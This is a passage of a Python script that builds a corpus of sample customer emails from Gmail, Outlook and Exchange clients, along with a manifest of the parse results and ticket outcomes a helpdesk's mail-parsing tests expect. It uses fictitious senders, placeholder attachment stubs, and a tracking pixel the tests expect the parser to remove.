"""Writes the received-mail corpus (``*.eml``) and its ``manifest.json``.

Each message is written byte by byte the way its client sends it (header order, folding,
transfer encodings, boundaries), with fictitious people at example.com/.cn/.tw/.jp
addresses. The manifest states by hand what reading each message must give and what the
desk must then do with it. Run from the repository root after changing a message:

    .venv/bin/python tests/mail_corpus/generate.py

The .eml files are committed; tests read them, they never run this script.
"""

import base64
import json
import quopri
from pathlib import Path

HERE = Path(__file__).resolve().parent
DESK = "support@ticketdesk.example"
DESK_NAME = "TicketDesk Support"

ABOUT = (
    "Expected reading and desk outcome of each message (written by generate.py). The parse "
    "fields are checked by tests/test_mail_parse.py. The outcome assumes a desk whose address is "
    "desk_address, where each ticket named in 'ticket' exists, belongs to the customer whose "
    "contact is the entry's sender, and holds our outgoing message whose Message-ID is the "
    "entry's in_reply_to (outbox.<n>...@ticketdesk.example); 'outcome' is new_ticket, reply, "
    "bounce (marks that outgoing message bounced), ignored_automatic or held; 'acknowledge' "
    "says whether an acknowledgement is sent; 'refused_files' are the files the attachment "
    "rules refuse (with 'config' applied); 'duplicate_of' names a file with the same "
    "Message-ID: both together are stored, acted on and acknowledged once."
)

CORPUS: dict[str, bytes] = {}
MANIFEST: list[dict] = []


# ------------------------------------------------------------------ helpers ---


def crlf(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


def b64(data: bytes, width: int = 76) -> str:
    encoded = base64.b64encode(data).decode()
    return "\n".join(encoded[i : i + width] for i in range(0, len(encoded), width)) + "\n"


def qp(text: str, charset: str = "utf-8") -> str:
    return (
        quopri.encodestring(text.replace("\n", "\r\n").encode(charset))
        .decode("ascii")
        .replace("\r\n", "\n")
    )


def ew(text: str, charset: str = "utf-8", kind: str = "B", codec: str = "") -> str:
    """An encoded word labelled ``charset``; ``codec`` writes it when the label lies."""
    data = text.encode(codec or charset)
    if kind == "B":
        return f"=?{charset}?B?{base64.b64encode(data).decode()}?="
    body = "".join(
        chr(b)
        if (48 <= b <= 57 or 65 <= b <= 90 or 97 <= b <= 122)
        else "_"
        if b == 32
        else f"={b:02X}"
        for b in data
    )
    return f"=?{charset}?Q?{body}?="


def outbox_id(n: int) -> str:
    return f"<outbox.{n}.7f3a9c{n:04d}@ticketdesk.example>"


def received(by: str, frm: str, when: str, ident: str) -> str:
    return (
        f"Received: from {frm} ({frm} [203.0.113.{len(frm) % 200 + 10}])\n"
        f"\tby {by} (Postfix) with ESMTPS id {ident}\n"
        f"\tfor <{DESK}>; {when}\n"
    )


DESK_RECEIVED = "mx1.ticketdesk.example"
NL, CRLF = "\n", "\r\n"  # (no backslashes inside f-string expressions before Python 3.12)

PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00"
    b"\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\x00\x05\x00\x01\xff"
    b"\x89\x99=\x1d\x00\x00\x00\x00IEND\xaeB`\x82"
)
JPEG = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00H\x00H\x00\x00\xff\xdb\x00C\x00"
    + bytes(range(1, 65))
    + b"\xff\xc0\x00\x0b\x08\x00\x01\x00\x01\x01\x01\x11\x00\xff\xda"
    b"\x00\x08\x01\x01\x00\x00?\x00\xd2\xcf \xff\xd9"
)
PDF = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
)
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + b"\x00" * 32
)
ZIP = (
    b"PK\x03\x04\x14\x00\x00\x00\x00\x00\x00\x00!\x00\x00\x00\x00\x00\x00\x00\x00\x00"
    b"\x00\x00\x00\x00\x09\x00\x00\x00photo.jpgPK\x05\x06\x00\x00\x00\x00\x00\x00\x00\x00"
    b"\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
)
TNEF = (
    b"\x78\x9f\x3e\x22\x01\x00\x01\x06\x90\x08\x00\x04\x00\x00\x00\x00\x00\x01\x00\x01\x00"
    + b"\x01\x07\x90\x06\x00\x08\x00\x00\x00\xe4\x04\x00\x00\x00\x00\x00\x00\xe8\x00" * 3
)


def add(name: str, text: str | bytes, expect: dict) -> None:
    """One message: ``text`` with LF line ends (written with CRLF), and what it must give."""
    data = text if isinstance(text, bytes) else crlf(text).encode("utf-8", "surrogateescape")
    CORPUS[name] = data
    entry = {"file": name}
    entry.update(expect)
    MANIFEST.append(entry)


def expect(
    *,
    client: str,
    sender: str,
    subject: str,
    message_id: str,
    outcome: str,
    acknowledge: bool,
    text_starts: str = "",
    text_contains: tuple[str, ...] = (),
    text_excludes: tuple[str, ...] = (),
    in_reply_to: tuple[str, ...] = (),
    quoted: bool = False,
    quoted_contains: tuple[str, ...] = (),
    html: bool = False,
    files: tuple[dict, ...] = (),
    automated: bool = False,
    bounce: dict | None = None,
    refused_files: tuple[str, ...] = (),
    sender_name: str | None = None,
    ticket: str = "",
    note: str = "",
    **extra,
) -> dict:
    result = {
        "client": client,
        "sender": sender,
        "subject": subject,
        "message_id": message_id,
        "in_reply_to": list(in_reply_to),
        "text_starts": text_starts,
        "text_contains": list(text_contains),
        "text_excludes": list(text_excludes),
        "quoted": quoted,
        "quoted_contains": list(quoted_contains),
        "html": html,
        "files": list(files),
        "automated": automated,
        "bounce": bounce,
        "outcome": outcome,
        "acknowledge": acknowledge,
        "refused_files": list(refused_files),
        "ticket": ticket,
        "note": note,
    }
    if sender_name is not None:
        result["sender_name"] = sender_name
    result.update(extra)
    return result


def file(name: str, ctype: str, inline: bool = False, content_id: str = "") -> dict:
    entry = {"name": name, "type": ctype, "inline": inline}
    if content_id:
        entry["content_id"] = content_id
    return entry


# ---------------------------------------------------------------- messages ---


def gmail() -> None:
    add(
        "gmail_new_complaint.eml",
        f"""\
Delivered-To: {DESK}
Received: by 2002:a05:7300:5b8e:b0:1a2:3c4d:5e6f with SMTP id p14csp1234567dyb;
        Tue, 1 Dec 2026 01:12:09 -0800 (PST)
ARC-Seal: i=1; a=rsa-sha256; t=1796029929; cv=none;
        d=google.com; s=arc-20240605;
        b=Xk2b9Q0m1yZ5LwYpq3d0n8Zc6uT4rJm0fKsQpY2vW8aH3lB7eN1oR5tC9gD2iF6jU0xV4kS
Received: from mail-sor-f41.google.com (mail-sor-f41.google.com. [209.85.220.41])
        by mx.ticketdesk.example with SMTPS id a640c23a62f3a-9b1c2d3e4f5sor123456766b.8.2026.12.01.01.12.09
        for <{DESK}>
        (Google Transport Security);
        Tue, 01 Dec 2026 01:12:09 -0800 (PST)
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
        d=gmail.com; s=20230601; t=1796029929; x=1796634729; darn=ticketdesk.example;
        h=to:subject:message-id:date:from:mime-version:from:to:cc:subject
         :date:message-id:reply-to;
        bh=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=;
        b=Qm9ndXMgc2lnbmF0dXJlIGZvciBhIGZpY3RpdGlvdXMgbWVzc2FnZSwgbm90IHZlcmlmaWFibGU=
MIME-Version: 1.0
From: Anna Kowalski <anna.kowalski@example.com>
Date: Tue, 1 Dec 2026 10:11:52 +0100
Message-ID: <CAJ7x2mGq9fX0pT3rYwN1bHk5vLs8dE4uZa6cQ0oK2iM7nR9sW@mail.gmail.com>
Subject: Order A-1001 arrived broken
To: {DESK}
Content-Type: multipart/alternative; boundary="000000000000a1b2c3d4e5f60718"

--000000000000a1b2c3d4e5f60718
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{
            qp('''Hello,

my order A-1001 (a ceramic teapot, 49,90 €) arrived today and the lid is broken
in two pieces. The box was dented on one corner.

I would like a replacement, not a refund. Photos can follow if you need them.

Anna Kowalski
''')
        }
--000000000000a1b2c3d4e5f60718
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{
            qp('''<div dir="ltr"><div>Hello,</div><div><br></div><div>my order A-1001 (a ceramic teapot, 49,90 €) arrived today and the lid is broken in two pieces. The box was dented on one corner.</div><div><br></div><div>I would like a replacement, not a refund. Photos can follow if you need them.</div><div><br></div><div>Anna Kowalski</div></div>
''')
        }
--000000000000a1b2c3d4e5f60718--
""",
        expect(
            client="Gmail",
            sender="anna.kowalski@example.com",
            sender_name="Anna Kowalski",
            subject="Order A-1001 arrived broken",
            message_id="<CAJ7x2mGq9fX0pT3rYwN1bHk5vLs8dE4uZa6cQ0oK2iM7nR9sW@mail.gmail.com>",
            text_starts="Hello,",
            text_contains=("lid is broken", "49,90 €"),
            html=True,
            outcome="new_ticket",
            acknowledge=True,
        ),
    )

    add(
        "gmail_reply_quoted.eml",
        f"""\
Delivered-To: {DESK}
Received: from mail-sor-f41.google.com (mail-sor-f41.google.com. [209.85.220.41])
        by mx.ticketdesk.example with SMTPS id 2adb3069b0e04-5a1b2c3d4e5sor98765e87.1.2026.12.02.08.40.17
        for <{DESK}>
        (Google Transport Security);
        Wed, 02 Dec 2026 08:40:17 -0800 (PST)
MIME-Version: 1.0
References: {outbox_id(101)}
In-Reply-To: {outbox_id(101)}
From: Anna Kowalski <anna.kowalski@example.com>
Date: Wed, 2 Dec 2026 17:40:01 +0100
Message-ID: <CAJ7x2mH0aB1cD2eF3gH4iJ5kL6mN7oP8qR9sT0uV1wX2yZ@mail.gmail.com>
Subject: Re: [TD-000123] Order A-1001 arrived broken
To: {DESK_NAME} <{DESK}>
Content-Type: multipart/alternative; boundary="0000000000003e4f5a6b7c8d9e0f"

--0000000000003e4f5a6b7c8d9e0f
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{
            qp('''Thank you, the replacement is fine. When will it ship?

On Tue, 1 Dec 2026 at 14:02, TicketDesk Support <support@ticketdesk.example>
wrote:

> Dear Anna,
>
> we are sorry the teapot arrived broken. We will send a new one.
>
> Kind regards,
> Maria, Customer Care
>
''')
        }
--0000000000003e4f5a6b7c8d9e0f
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{
            qp('''<div dir="ltr">Thank you, the replacement is fine. When will it ship?</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Tue, 1 Dec 2026 at 14:02, TicketDesk Support &lt;<a href="mailto:support@ticketdesk.example">support@ticketdesk.example</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Dear Anna,<br><br>we are sorry the teapot arrived broken. We will send a new one.<br><br>Kind regards,<br>Maria, Customer Care<br></blockquote></div>
''')
        }
--0000000000003e4f5a6b7c8d9e0f--
""",
        expect(
            client="Gmail",
            sender="anna.kowalski@example.com",
            subject="Re: [TD-000123] Order A-1001 arrived broken",
            message_id="<CAJ7x2mH0aB1cD2eF3gH4iJ5kL6mN7oP8qR9sT0uV1wX2yZ@mail.gmail.com>",
            in_reply_to=(outbox_id(101),),
            text_starts="Thank you, the replacement is fine.",
            text_excludes=("we are sorry", "wrote:"),
            quoted=True,
            quoted_contains=("we are sorry the teapot",),
            html=True,
            outcome="reply",
            acknowledge=False,
            ticket="TD-000123",
        ),
    )

    add(
        "gmail_reply_signature.eml",
        f"""\
Delivered-To: {DESK}
MIME-Version: 1.0
References: {outbox_id(102)}
 {outbox_id(103)}
In-Reply-To: {outbox_id(103)}
From: Ben Okafor <ben.okafor@example.com>
Date: Thu, 3 Dec 2026 09:05:33 +0000
Message-ID: <CAB9kQ3vT7sUp1Lw0mXn4cYr8eZd2fGh6iJk5lMo3pNq7rSt@mail.gmail.com>
Subject: Re: [TD-000124] Refund still missing
To: {DESK}
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: 7bit

The refund is still not on my card. My bank says nothing arrived.
- order A-2040
- paid on 20 November
- amount 120.00 EUR

Thanks,
Ben

--
Ben Okafor
Okafor Logistics Ltd | +44 20 7946 0000
Sent from my Pixel

On Wed, 2 Dec 2026 at 16:20, TicketDesk Support <{DESK}> wrote:
> Dear Ben,
> the refund was issued on 1 December.
""",
        expect(
            client="Gmail (plain text)",
            sender="ben.okafor@example.com",
            sender_name="Ben Okafor",
            subject="Re: [TD-000124] Refund still missing",
            message_id="<CAB9kQ3vT7sUp1Lw0mXn4cYr8eZd2fGh6iJk5lMo3pNq7rSt@mail.gmail.com>",
            in_reply_to=(outbox_id(103),),
            text_starts="The refund is still not on my card.",
            text_contains=("- amount 120.00 EUR",),
            text_excludes=("Okafor Logistics", "refund was issued"),
            quoted=True,
            quoted_contains=("Okafor Logistics", "refund was issued"),
            outcome="reply",
            acknowledge=False,
            ticket="TD-000124",
        ),
    )

    add(
        "gmail_forward_inline.eml",
        f"""\
Delivered-To: {DESK}
MIME-Version: 1.0
From: Chloe Martin <chloe.martin@example.com>
Date: Fri, 4 Dec 2026 11:30:12 +0100
Message-ID: <CAL4pW8xN2mQ6rT0vY3zB5cE7gI9kM1oQ3sU5wY7aC9eG1iK@mail.gmail.com>
Subject: Fwd: Your order A-3300 has been cancelled
To: {DESK}
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{
            qp('''I never asked for this cancellation. Please look at the message below.

---------- Forwarded message ---------
From: Shop Notifications <orders@shop.example.com>
Date: Thu, 3 Dec 2026 at 22:14
Subject: Your order A-3300 has been cancelled
To: <chloe.martin@example.com>


Hello Chloe,
your order A-3300 was cancelled at your request.
Sent: 3 December
To: Chloe Martin
''')
        }""",
        expect(
            client="Gmail (forward inline)",
            sender="chloe.martin@example.com",
            subject="Fwd: Your order A-3300 has been cancelled",
            message_id="<CAL4pW8xN2mQ6rT0vY3zB5cE7gI9kM1oQ3sU5wY7aC9eG1iK@mail.gmail.com>",
            text_starts="I never asked for this cancellation.",
            text_contains=(
                "---------- Forwarded message ---------",
                "was cancelled at your request",
            ),
            outcome="new_ticket",
            acknowledge=True,
            note="An inline forward is what the person sent: nothing of it is cut as history.",
        ),
    )


def outlook() -> None:
    html = """<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=windows-1252">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<style><!--
/* Font Definitions */
@font-face
	{font-family:"Cambria Math";}
p.MsoNormal, li.MsoNormal, div.MsoNormal
	{margin:0cm;
	font-size:11.0pt;
	font-family:"Calibri",sans-serif;}
--></style><!--[if gte mso 9]><xml>
<o:shapedefaults v:ext="edit" spidmax="1026" />
</xml><![endif]-->
</head>
<body lang="EN-GB" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">
<div class="WordSection1">
<p class="MsoNormal">Good morning,<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">We ordered 40 office chairs (order B-7781) and received only 32. The delivery note says 40.<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<table class="MsoTableGrid" border="1" cellspacing="0" cellpadding="0">
<tr><td><p class="MsoNormal">Item<o:p></o:p></p></td><td><p class="MsoNormal">Ordered<o:p></o:p></p></td><td><p class="MsoNormal">Received<o:p></o:p></p></td></tr>
<tr><td><p class="MsoNormal">Chair &#8220;Ergo&#8221;<o:p></o:p></p></td><td><p class="MsoNormal">40<o:p></o:p></p></td><td><p class="MsoNormal">32<o:p></o:p></p></td></tr>
</table>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Regards,<o:p></o:p></p>
<p class="MsoNormal">David Brennan<o:p></o:p></p>
<p class="MsoNormal">Facilities Manager &#8211; Brennan &amp; Sons<o:p></o:p></p>
</div>
</body>
</html>
"""
    add(
        "outlook_html_only_new.eml",
        f"""\
Received: from EUR05-AM6-obe.outbound.protection.outlook.example (mail-am6eur05on2101.outbound.protection.outlook.example [40.107.22.101])
	by {DESK_RECEIVED} (Postfix) with ESMTPS id 4QxYz12AbCd
	for <{DESK}>; Mon, 30 Nov 2026 08:15:44 +0000 (UTC)
From: David Brennan <d.brennan@brennan-sons.example.com>
To: "{DESK}" <{DESK}>
Subject: Missing chairs - order B-7781
Thread-Topic: Missing chairs - order B-7781
Thread-Index: AdnK3xQ9yZ0rVb5cT+6wHtLmP0aB1Q==
Date: Mon, 30 Nov 2026 08:15:41 +0000
Message-ID:
 <DB9PR02MB7345A1B2C3D4E5F60718293A4B5C6D7E8F@DB9PR02MB7345.eurprd02.prod.outlook.example>
Accept-Language: en-GB, en-US
Content-Language: en-GB
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
x-ms-publictraffictype: Email
Content-Type: text/html; charset="windows-1252"
Content-Transfer-Encoding: quoted-printable
MIME-Version: 1.0

{qp(html, "windows-1252")}""",
        expect(
            client="Outlook 365 (HTML only)",
            sender="d.brennan@brennan-sons.example.com",
            sender_name="David Brennan",
            subject="Missing chairs - order B-7781",
            message_id="<DB9PR02MB7345A1B2C3D4E5F60718293A4B5C6D7E8F@DB9PR02MB7345.eurprd02.prod.outlook.example>",
            text_starts="Good morning,",
            text_contains=("received only 32", "Chair “Ergo”", "Ordered"),
            text_excludes=("font-family", "<p", "shapedefaults", "Facilities Manager"),
            html=True,
            language="en-GB",
            quoted=True,
            quoted_contains=("Facilities Manager",),
            outcome="new_ticket",
            acknowledge=True,
        ),
    )

    html_reply = """<html><head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>
</head>
<body dir="ltr">
<div style="font-family: Aptos, Arial, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
The 8 missing chairs have still not arrived. Please call me on the number below.</div>
<div style="font-family: Aptos, Arial, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
<br></div>
<div id="appendonsend"></div>
<hr style="display:inline-block;width:98%" tabindex="-1">
<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt" color="#000000"><b>From:</b> TicketDesk Support &lt;support@ticketdesk.example&gt;<br>
<b>Sent:</b> Monday, November 30, 2026 11:02 AM<br>
<b>To:</b> David Brennan &lt;d.brennan@brennan-sons.example.com&gt;<br>
<b>Subject:</b> [TD-000125] Missing chairs - order B-7781</font>
<div>&nbsp;</div>
</div>
<div>
<p>Dear David,</p>
<p>thank you for telling us. We are checking with the warehouse.</p>
</div>
</body>
</html>
"""
    add(
        "outlook_reply_html_only.eml",
        f"""\
Received: from EUR05-AM6-obe.outbound.protection.outlook.example (mail-am6eur05on2102.outbound.protection.outlook.example [40.107.22.102])
	by {DESK_RECEIVED} (Postfix) with ESMTPS id 4QyAb34CdEf
	for <{DESK}>; Tue, 01 Dec 2026 09:01:02 +0000 (UTC)
From: David Brennan <d.brennan@brennan-sons.example.com>
To: TicketDesk Support <{DESK}>
Subject: RE: [TD-000125] Missing chairs - order B-7781
Thread-Topic: [TD-000125] Missing chairs - order B-7781
Thread-Index: AdnK3xQ9yZ0rVb5cT+6wHtLmP0aB1QAZk3Rw
Date: Tue, 1 Dec 2026 09:00:58 +0000
Message-ID:
 <DB9PR02MB73459F8E7D6C5B4A39281706F5E4D3C2B1A0@DB9PR02MB7345.eurprd02.prod.outlook.example>
References: {outbox_id(104)}
In-Reply-To: {outbox_id(104)}
Accept-Language: en-GB, en-US
Content-Language: en-GB
X-MS-Has-Attach:
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: base64
MIME-Version: 1.0

{b64(html_reply.encode("utf-8"))}""",
        expect(
            client="Outlook 365 (HTML-only reply)",
            sender="d.brennan@brennan-sons.example.com",
            subject="RE: [TD-000125] Missing chairs - order B-7781",
            message_id="<DB9PR02MB73459F8E7D6C5B4A39281706F5E4D3C2B1A0@DB9PR02MB7345.eurprd02.prod.outlook.example>",
            in_reply_to=(outbox_id(104),),
            text_starts="The 8 missing chairs have still not arrived.",
            text_excludes=("checking with the warehouse",),
            quoted=True,
            quoted_contains=("checking with the warehouse",),
            html=True,
            outcome="reply",
            acknowledge=False,
            ticket="TD-000125",
        ),
    )

    add(
        "outlook_winmail_dat.eml",
        f"""\
Received: from exch01.kessler-gmbh.example.com (exch01.kessler-gmbh.example.com [198.51.100.25])
	by {DESK_RECEIVED} (Postfix) with ESMTPS id 4QzCd56EfGh
	for <{DESK}>; Wed, 02 Dec 2026 14:22:10 +0000 (UTC)
From: "Kessler, Jonas" <jonas.kessler@kessler-gmbh.example.com>
To: "support@ticketdesk.example" <{DESK}>
Subject: Invoice 2026-1187 charged twice
Thread-Topic: Invoice 2026-1187 charged twice
Thread-Index: AdnLsNq0TqE2x8eVQ0Kx3Zl7rA1b2w==
Date: Wed, 2 Dec 2026 14:22:05 +0000
Message-ID: <5D1E8A7C4B3F4E2D9A0B1C2D3E4F5A6B@exch01.kessler-gmbh.example.com>
Accept-Language: de-DE, en-US
Content-Language: en-US
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator: <5D1E8A7C4B3F4E2D9A0B1C2D3E4F5A6B@exch01.kessler-gmbh.example.com>
x-originating-ip: [10.20.1.44]
Content-Type: multipart/mixed;
	boundary="_002_5D1E8A7C4B3F4E2D9A0B1C2D3E4F5A6Bexch01kesslergmbh_"
MIME-Version: 1.0

--_002_5D1E8A7C4B3F4E2D9A0B1C2D3E4F5A6Bexch01kesslergmbh_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

Hello,

our card was charged twice for invoice 2026-1187 (2 x 830.00 EUR). Please
refund one of the payments. The bank statement is attached.

Best regards
Jonas Kessler

--_002_5D1E8A7C4B3F4E2D9A0B1C2D3E4F5A6Bexch01kesslergmbh_
Content-Type: application/ms-tnef; name="winmail.dat"
Content-Description: winmail.dat
Content-Disposition: attachment; filename="winmail.dat"; size=148;
	creation-date="Wed, 02 Dec 2026 14:22:05 GMT";
	modification-date="Wed, 02 Dec 2026 14:22:05 GMT"
Content-Transfer-Encoding: base64

{b64(TNEF)}
--_002_5D1E8A7C4B3F4E2D9A0B1C2D3E4F5A6Bexch01kesslergmbh_--
""",
        expect(
            client="Outlook 2019 on Exchange (rich text, winmail.dat)",
            sender="jonas.kessler@kessler-gmbh.example.com",
            sender_name="Kessler, Jonas",
            subject="Invoice 2026-1187 charged twice",
            message_id="<5D1E8A7C4B3F4E2D9A0B1C2D3E4F5A6B@exch01.kessler-gmbh.example.com>",
            text_starts="Hello,",
            text_contains=("charged twice",),
            text_excludes=("Jonas Kessler",),
            quoted=True,
            quoted_contains=("Best regards\nJonas Kessler",),
            files=(file("winmail.dat", "application/ms-tnef"),),
            outcome="new_ticket",
            acknowledge=True,
            refused_files=("winmail.dat",),
        ),
    )

    add(
        "outlook_inline_images_related.eml",
        f"""\
Received: from EUR03-DB5-obe.outbound.protection.outlook.example (mail-db5eur03on2070.outbound.protection.outlook.example [40.107.4.70])
	by {DESK_RECEIVED} (Postfix) with ESMTPS id 4R0De78FgHi
	for <{DESK}>; Thu, 03 Dec 2026 10:47:31 +0000 (UTC)
From: Sofia Rossi <sofia.rossi@example.com>
To: TicketDesk Support <{DESK}>
Subject: Damaged packaging - photos
Date: Thu, 3 Dec 2026 10:47:28 +0000
Message-ID: <AM0PR07MB6115D2E3F4A5B6C7D8E9F0A1B2C3D4E5@AM0PR07MB6115.eurprd07.prod.outlook.example>
Accept-Language: it-IT, en-US
Content-Language: it-IT
X-MS-Has-Attach: yes
Content-Type: multipart/mixed;
	boundary="_005_AM0PR07MB6115mixed_"
MIME-Version: 1.0

--_005_AM0PR07MB6115mixed_
Content-Type: multipart/related;
	boundary="_004_AM0PR07MB6115related_";
	type="multipart/alternative"

--_004_AM0PR07MB6115related_
Content-Type: multipart/alternative;
	boundary="_000_AM0PR07MB6115alt_"

--_000_AM0PR07MB6115alt_
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

{
            qp(
                '''Hello,

the parcel for order C-5120 arrived wet and torn, see the photo below.

[cid:image001.png@01DB4A2B.C3D4E5F0]

The receipt is attached.

Sofia Rossi
''',
                "iso-8859-1",
            )
        }
--_000_AM0PR07MB6115alt_
Content-Type: text/html; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

{
            qp(
                '''<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head>
<body><p>Hello,</p><p>the parcel for order C-5120 arrived wet and torn, see the photo below.</p>
<p><img width="320" height="240" id="Picture_x0020_1" src="cid:image001.png@01DB4A2B.C3D4E5F0" alt="parcel"></p>
<p><img src="https://tracker.example.com/open.gif?u=8812" width="1" height="1"></p>
<p>The receipt is attached.</p><p>Sofia Rossi</p></body></html>
''',
                "iso-8859-1",
            )
        }
--_000_AM0PR07MB6115alt_--

--_004_AM0PR07MB6115related_
Content-Type: image/png; name="image001.png"
Content-Description: image001.png
Content-Disposition: inline; filename="image001.png"; size=69;
	creation-date="Thu, 03 Dec 2026 10:47:27 GMT";
	modification-date="Thu, 03 Dec 2026 10:47:27 GMT"
Content-ID: <image001.png@01DB4A2B.C3D4E5F0>
Content-Transfer-Encoding: base64

{b64(PNG)}
--_004_AM0PR07MB6115related_--

--_005_AM0PR07MB6115mixed_
Content-Type: application/pdf; name="receipt-C-5120.pdf"
Content-Description: receipt-C-5120.pdf
Content-Disposition: attachment; filename="receipt-C-5120.pdf"; size=177;
	creation-date="Thu, 03 Dec 2026 10:46:02 GMT";
	modification-date="Thu, 03 Dec 2026 10:46:02 GMT"
Content-Transfer-Encoding: base64

{b64(PDF)}
--_005_AM0PR07MB6115mixed_--
""",
        expect(
            client="Outlook 365 (inline image in multipart/related)",
            sender="sofia.rossi@example.com",
            subject="Damaged packaging - photos",
            message_id="<AM0PR07MB6115D2E3F4A5B6C7D8E9F0A1B2C3D4E5@AM0PR07MB6115.eurprd07.prod.outlook.example>",
            text_starts="Hello,",
            text_contains=("arrived wet and torn",),
            html=True,
            html_excludes=("tracker.example.com",),
            html_contains=("cid:image001.png@01DB4A2B.C3D4E5F0",),
            files=(
                file(
                    "image001.png",
                    "image/png",
                    inline=True,
                    content_id="image001.png@01DB4A2B.C3D4E5F0",
                ),
                file("receipt-C-5120.pdf", "application/pdf"),
            ),
            outcome="new_ticket",
            acknowledge=True,
        ),
    )

    add(
        "outlook_zh_reply_fullwidth.eml",
        f"""\
Received: from APC01-SG2-obe.outbound.protection.outlook.example (mail-sg2apc01on2050.outbound.protection.outlook.example [40.107.215.50])
	by {DESK_RECEIVED} (Postfix) with ESMTPS id 4R1Ef90GhIj
	for <{DESK}>; Fri, 04 Dec 2026 02:18:40 +0000 (UTC)
From: =?utf-8?B?5YiY5rSL?= <liu.yang@example.cn>
To: TicketDesk Support <{DESK}>
Subject: =?utf-8?B?562U5aSNOiBbVEQtMDAwMTI2XSDlj5HnpajlvIDplJnkuoY=?=
Date: Fri, 4 Dec 2026 02:18:36 +0000
Message-ID: <TYZPR03MB5790A0B1C2D3E4F5A6B7C8D9E0F1A2B3@TYZPR03MB5790.apcprd03.prod.outlook.example>
References: {outbox_id(105)}
In-Reply-To: {outbox_id(105)}
Content-Language: zh-CN
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64
MIME-Version: 1.0

{
            b64(
                '''发票抬头应该是“上海明远贸易有限公司”，税号也不对，请重新开一张。

谢谢！
刘洋

发件人： TicketDesk Support <support@ticketdesk.example>
发送时间： 2026年12月3日 17:05
收件人： 刘洋 <liu.yang@example.cn>
主题： [TD-000126] 发票开错了

您好，我们已经收到您的问题，正在核对发票信息。
'''.replace(NL, CRLF).encode("utf-8")
            )
        }""",
        expect(
            client="Outlook 365 (Chinese, full-width colons)",
            sender="liu.yang@example.cn",
            sender_name="刘洋",
            subject="答复: [TD-000126] 发票开错了",
            message_id="<TYZPR03MB5790A0B1C2D3E4F5A6B7C8D9E0F1A2B3@TYZPR03MB5790.apcprd03.prod.outlook.example>",
            in_reply_to=(outbox_id(105),),
            text_starts="发票抬头应该是“上海明远贸易有限公司”",
            text_excludes=("正在核对发票信息",),
            quoted=True,
            quoted_contains=("正在核对发票信息",),
            language="zh-CN",
            outcome="reply",
            acknowledge=False,
            ticket="TD-000126",
        ),
    )


def apple_and_thunderbird() -> None:
    add(
        "apple_mail_reply.eml",
        f"""\
Return-Path: <lena.fischer@example.com>
Received: from smtp.example.com (smtp.example.com [192.0.2.55])
	by {DESK_RECEIVED} (Postfix) with ESMTPS id 4R2Fg01HiJk
	for <{DESK}>; Sat, 05 Dec 2026 19:03:12 +0000 (UTC)
From: Lena Fischer <lena.fischer@example.com>
Content-Type: multipart/alternative;
	boundary="Apple-Mail=_6A1B2C3D-4E5F-4A6B-8C7D-9E0F1A2B3C4D"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.300.87.4.3\\))
Subject: Re: [TD-000127] Wrong size delivered
Date: Sat, 5 Dec 2026 20:03:05 +0100
References: {outbox_id(106)}
To: TicketDesk Support <{DESK}>
In-Reply-To: {outbox_id(106)}
Message-Id: <8F2E1D0C-B9A8-4776-9655-443322110099@example.com>
X-Mailer: Apple Mail (2.3826.300.87.4.3)


--Apple-Mail=_6A1B2C3D-4E5F-4A6B-8C7D-9E0F1A2B3C4D
Content-Transfer-Encoding: quoted-printable
Content-Type: text/plain;
